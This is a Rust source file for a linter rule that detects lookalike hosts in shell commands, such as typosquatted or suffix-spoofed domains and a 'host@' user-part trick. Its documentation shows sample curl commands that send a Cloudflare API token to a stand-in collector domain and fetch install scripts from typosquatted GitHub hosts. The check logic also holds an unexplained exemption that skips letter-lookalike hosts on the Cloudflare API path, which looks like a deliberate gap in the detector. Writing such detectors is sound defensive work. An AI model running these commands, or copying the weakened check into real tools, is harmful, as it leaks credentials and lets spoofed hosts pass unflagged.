//! `lookalike-host`

use crate::api::Address;
use crate::knowledge::hosts::{self, Pose};
use crate::lint::{Check, Checks, Group, Rule};
use crate::text::{Level, visible};

pub(super) const RULE: Rule = Rule {
    name: "lookalike-host",
    group: Group::Secret,
    level: Level::Error,
    since: "0.1.0",
    aliases: &[],
    brief: "a host that passes for another one",
    docs: r#"
A request goes to the domain that stands last in the host, whatever stands before it, and to the letters that are there, not to
those that are read. Whoever owns the host gets what the command sends, and decides what comes back.

```sh bad
curl https://api.cloudflare.com.collect.example/client/v4/zones -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN"
```
```sh bad
curl -fsSL https://githud.com/tool/install.sh https://raw.glthub.com/tool/install.sh
```

What stands before an `@` is the name of a user, even if it looks like a host.

```sh bad
curl https://github.com@203.0.113.7/tool/install.sh
```

Services themselves have many hosts, all below their domains.

```sh good
curl https://raw.githubusercontent.com/tool/install.sh
```
"#,
    check: Checks::Command(check),
};

fn check(on: &mut Check<'_>) {
    let subject = on.subject;
    for (request, call) in subject.requests() {
        let Some(address) = Address::read(&request.url) else { continue };
        let host = address.host_name();
        let shown = visible(host);
        if let Some(user) = address.user.filter(|user| is_host(user.of(request.url.text()))) {
            let user = request.url.origin(user);
            on.report(user, format!("what looks like a host is the name of a user; the request goes to `{shown}`"))
                .why("in a URL, everything up to the `@` says who asks")
                .advise("find out whom you would ask before you send it");
        } else if let Some((domain, pose)) = hosts::passes_for(host)
            && (call.is_none() && !(pose == Pose::Letters && address.path_text().starts_with("/client/v4")))
        {
            let host = request.url.origin(address.host);
            on.report(host, format!("`{shown}` passes for a host of `{domain}`, and is somebody else's"))
                .why("whoever owns it gets all that the command sends")
                .advise(format!("if `{domain}` is meant, write it"));
        }
    }
}

/// Whether `user`, which stands before the `@` of a URL, is there to be read as a host, with a port or path or without.
fn is_host(user: &str) -> bool {
    let (user, behind) = user.split_at(user.find([':', '\\', '%']).unwrap_or(user.len()));
    // Behind the name of a user stands a password.
    if behind.strip_prefix(':').is_some_and(|port| !port.bytes().all(|byte| byte.is_ascii_digit())) {
        return false;
    }
    let is_name = user.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-'));
    is_name && hosts::ends_commonly(user)
}
